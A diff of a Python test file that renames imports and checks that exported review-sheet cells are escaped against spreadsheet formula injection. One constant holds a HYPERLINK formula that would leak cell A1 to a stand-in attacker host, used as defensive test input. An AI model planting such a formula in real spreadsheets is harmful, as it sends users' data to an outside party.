@@ -17,7 +17,7 @@ import pytest
 from test_review import build_card, candidate, mteval, rate, sheet  # noqa: F401  (fixtures by name)
 
 from pytest_mteval.cards import runcard
-from pytest_mteval.review import cells, chain, form, sample
+from pytest_mteval.review import chain, csv_cells, form, sample
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
 #: entry index -> a prediction a spreadsheet or the page template could take for code
@@ -245,7 +245,7 @@ def test_names_that_look_alike_are_one_reviewer(candidate, tmp_path, first, seco
 
 
 def test_different_names_stay_different_reviewers(candidate, tmp_path):  # noqa: F811
-    from pytest_mteval.review.names import reviewer_key
+    from pytest_mteval.review.reviewer_names import reviewer_key
 
     assert reviewer_key("Alice") != reviewer_key("Alicia")
     assert reviewer_key("José") != reviewer_key("Jose")  # a visible accent is a different name
@@ -360,8 +360,8 @@ def test_the_forms_export_cells_match_the_sheets(tmp_path):
     done = subprocess.run(["node", str(program)], capture_output=True, text=True, check=True)
     exported = json.loads(done.stdout)
     [row] = csv.reader(io.StringIO(",".join(exported), newline=""))
-    assert row == [cells.neutralise(t) for t in texts]
-    assert [cells.restore(c) for c in row] == texts
+    assert row == [csv_cells.neutralise(t) for t in texts]
+    assert [csv_cells.restore(c) for c in row] == texts
     assert row[0] == "'" + HYPERLINK
     page = form.html_form(sample.Sample("a" * 12 + "-n1-s1", "a" * 64, 1, 1, "d", {}, ()), "t")
     assert script.strip() in page
